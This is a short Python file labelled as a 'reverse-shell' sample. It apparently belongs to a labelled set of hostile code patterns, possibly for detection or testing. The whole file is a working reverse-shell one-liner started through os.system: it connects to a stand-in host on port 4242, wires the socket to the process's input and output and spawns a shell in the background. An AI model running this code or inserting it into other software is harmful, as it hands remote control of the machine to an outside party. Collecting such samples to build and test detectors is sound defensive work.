# family: reverse-shell
# the python -c reverse shell one-liner, started through os.system
import os

os.system("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"rs.example.invalid\",4242));"
          "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")' &")
